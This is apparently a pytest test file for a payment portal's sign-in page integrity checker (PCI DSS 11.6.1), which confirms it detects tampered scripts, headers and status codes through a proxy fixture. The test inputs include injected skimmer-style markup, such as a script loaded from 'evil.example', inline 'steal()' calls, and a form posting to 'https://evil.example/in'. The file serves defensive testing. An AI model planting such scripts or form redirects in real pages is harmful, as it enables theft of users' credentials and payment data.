"""Clients get the page we mean to serve, and whoever changes it on the way is found (PCI DSS 11.6.1)."""

import re
import socket
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace

import pytest
from flask import Flask
from werkzeug.serving import WSGIRequestHandler, make_server
from werkzeug.test import run_wsgi_app
from werkzeug.wrappers import Response

from jobs import check_page
from models import Task
from tests.conftest import Clock
from views import live_page


class Quiet(WSGIRequestHandler):
    def log(self, *args):
        pass


class Between:
    """Whoever stands between the portal and its clients: changes the answer of a path, and counts what is asked."""

    def __init__(self, app: Flask) -> None:
        self.app, self.asked = app.wsgi_app, []
        self.changes: dict[str, Callable[[Response], None]] = {}

    def __call__(self, environ, start_response):
        path = environ["PATH_INFO"]
        self.asked.append(path)
        body, status, headers = run_wsgi_app(self.app, environ, buffered=True)
        answer = Response(b"".join(body), status, headers)
        self.changes.get(path, lambda answer: None)(answer)
        return answer(environ, start_response)

    def writes(self, old: str, new: str, path: str = "/sign-in") -> None:
        """Put `new` where `old` stands in what this path answers."""

        def rewrite(answer: Response) -> None:
            text = answer.get_data(as_text=True)
            assert old in text
            answer.set_data(text.replace(old, new, 1))

        self.changes[path] = rewrite


@pytest.fixture
def between(app, settings, monkeypatch) -> Iterator[Between]:
    """In front of a production server, which the settings name as the portal's address."""
    between = Between(app)
    server = make_server("127.0.0.1", 0, between, threaded=True, request_handler=Quiet)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    address = f"http://127.0.0.1:{server.server_port}"
    app.extensions["settings"] = replace(settings, mode="production", public_url=address)
    monkeypatch.setenv("no_proxy", "*")
    monkeypatch.setattr(live_page, "PAUSES", (0, 0))
    yield between
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def nowhere() -> str:
    """An address where nobody listens."""
    with socket.create_server(("127.0.0.1", 0)) as free:
        return f"http://127.0.0.1:{free.getsockname()[1]}"


def drop(name: str) -> Callable[[Response], None]:
    return lambda answer: answer.headers.remove(name)


def add(name: str, value: str) -> Callable[[Response], None]:
    return lambda answer: answer.headers.add(name, value)


def with_status(code: int) -> Callable[[Response], None]:
    return lambda answer: setattr(answer, "status_code", code)


def address_of(app: Flask, path: str = "") -> str:
    return app.extensions["settings"].public_url + path


def tasks() -> list[tuple[str, str]]:
    return [(task.kind, task.detail) for task in Task.select()]


def test_the_page_as_we_serve_it_is_the_one_we_mean(app, clock, between):
    assert check_page(app, clock()) == 0
    assert tasks() == []
    assert between.asked[0] == "/sign-in"
    assert {"/static/pay.js", "/assets/braintree/client.js", "/assets/htmx.min.js"} < set(between.asked)


PLANTED = "The sign-in page holds a script that is not ours: "
ABROAD = "The sign-in page names another host: "
# What somebody puts into the page, and what is said of it.
FOREIGN = {
    '<SCRIPT\nsrc="//evil.example/a.js">': [
        PLANTED + r"""'<SCRIPT\nsrc="//evil.example/a.js">'""",
        ABROAD + "'//evil.example/a.js'",
    ],
    "<script>steal()": [PLANTED + "'<script>'"],
    '<script src="/static/pay.js">': [PLANTED + """'<script src="/static/pay.js">'"""],
    "<svg><script/href=data:,steal()>": [PLANTED + "'<script/href=data:,steal()>'"],
    "<form action=https://evil.example/in>": [ABROAD + "'https://evil.example/in'"],
}


def test_what_is_planted_in_the_page_is_found(app, between):
    for planted, sentences in FOREIGN.items():
        between.writes("<h1>", planted + "<h1>")
        assert app.extensions["page_problems"]() == sentences


def test_a_page_too_long_to_be_read_whole_is_not_trusted(app, between):
    between.writes("<h1>", "x" * live_page.MOST + "<h1>")

    assert app.extensions["page_problems"]() == ["The sign-in page is longer than we read."]


def test_a_script_with_the_pages_own_nonce_is_found_and_the_nonce_is_not_shown(app, between):
    between.writes('" src="/static/app.js', '" src="/static/other.js')

    (sentence,) = app.extensions["page_problems"]()
    assert sentence.startswith(PLANTED + """'<script nonce="\\u2026" src="/static/other.js?v=""")


def test_a_script_changed_or_gone_is_found_also_when_the_sign_in_page_does_not_load_it(app, between):
    between.writes("(", "(steal(),", path="/static/pay.js")
    between.changes["/assets/htmx.min.js"] = with_status(404)
    between.changes["/static/app.js"] = with_status(502)

    said = [re.sub(r"\?v=\w+", "", sentence) for sentence in app.extensions["page_problems"]()]

    differs = " does not bring the file that the inventory of scripts describes."
    assert sorted(said) == [
        address_of(app, "/assets/htmx.min.js") + differs,
        address_of(app, "/static/app.js answers 502."),
        address_of(app, "/static/pay.js") + differs,
    ]


# What somebody does to the page's head, and what is said of it.
HEAD = {
    "The sign-in page comes without X-Frame-Options.": drop("X-Frame-Options"),
    "The sign-in page comes with another Referrer-Policy.": add("Referrer-Policy", "unsafe-url"),
    "The sign-in page comes with another Content-Security-Policy.": add(live_page.POLICY, "default-src *"),
    "The sign-in page answers 404.": with_status(404),
    "The sign-in page answers 302.": with_status(302),
}


def test_a_changed_header_or_status_is_found(app, between):
    for sentence, change in HEAD.items():
        between.changes["/sign-in"] = change
        assert app.extensions["page_problems"]() == [sentence]


def test_no_redirect_is_followed(app, between):
    def elsewhere(answer: Response) -> None:
        answer.status_code, answer.location = 302, "/no-such-page"

    between.changes["/sign-in"] = elsewhere

    assert app.extensions["page_problems"]() == ["The sign-in page answers 302."]
    assert "/no-such-page" not in between.asked


def test_without_the_policy_no_script_is_known(app, between):
    between.changes["/sign-in"] = drop(live_page.POLICY)

    found = app.extensions["page_problems"]()

    assert found[-1] == "The sign-in page comes without Content-Security-Policy."
    assert len(found) > 1 and all(sentence.startswith(PLANTED) for sentence in found[:-1])


def test_staff_are_told_once_and_the_log_has_every_difference(app, clock: Clock, between, caplog):
    between.changes["/sign-in"] = lambda answer: (drop("X-Frame-Options")(answer), drop("Referrer-Policy")(answer))
    jobs = app.extensions["jobs"]

    assert jobs.run_due()["check the page"] == 2
    clock.pass_(days=7)
    jobs.run_due()

    assert ("task.scripts", "The sign-in page comes without Referrer-Policy.") in tasks()
    assert [kind for kind, _ in tasks()].count("task.scripts") == 1
    assert "without X-Frame-Options." in caplog.text


def test_a_page_out_of_reach_is_a_task_of_its_own(app, clock, between, nowhere):
    between.changes["/sign-in"] = with_status(502)
    assert check_page(app, clock()) == 1
    assert tasks() == [("task.live_page", address_of(app, "/sign-in answers 502."))]
    assert between.asked == ["/sign-in"] * len(live_page.PAUSES)

    app.extensions["settings"] = replace(app.extensions["settings"], public_url=nowhere)
    assert check_page(app, clock()) == 1
    kind, detail = tasks()[-1]
    assert kind == "task.live_page" and detail.startswith(f"{nowhere}/sign-in could not be reached: [Errno ")


def test_only_a_real_practice_looks_at_itself(app, clock, between):
    app.extensions["settings"] = replace(app.extensions["settings"], mode="demo")
    between.changes["/sign-in"] = drop("X-Frame-Options")

    assert check_page(app, clock()) == 0
    assert between.asked == []


def test_the_command_says_what_it_found(app, between, nowhere):
    run = app.test_cli_runner().invoke

    said = run(args=["check-page"])
    assert (said.exit_code, said.output) == (0, "Page and scripts come as they should.\n")

    between.changes["/sign-in"] = drop("X-Frame-Options")
    said = run(args=["check-page"])
    assert (said.exit_code, said.output) == (1, "The sign-in page comes without X-Frame-Options.\n")

    app.extensions["settings"] = replace(app.extensions["settings"], public_url=nowhere)
    said = run(args=["check-page"])
    assert (said.exit_code, said.output.startswith(f"Error: {nowhere}/sign-in could not be")) == (1, True)
